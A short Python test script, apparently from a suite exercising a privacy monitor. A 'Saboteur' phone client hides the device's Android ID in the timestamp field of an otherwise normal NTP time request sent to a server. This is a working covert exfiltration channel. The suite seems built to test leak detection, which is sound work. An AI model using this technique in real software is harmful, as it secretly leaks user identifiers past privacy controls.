"""Asks for the time, by a well-formed datagram of NTP, whose "transmit timestamp" is the Android id.

mechanism: another protocol: a datagram
"""
import socket

from client import SERVER, Phone, run


class Saboteur(Phone):
    def poll(self):
        super().poll()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as clock:
            clock.sendto(b"\x23" + bytes(39) + bytes.fromhex(self.identity["androidId"]), (SERVER, 123))


run(Saboteur())
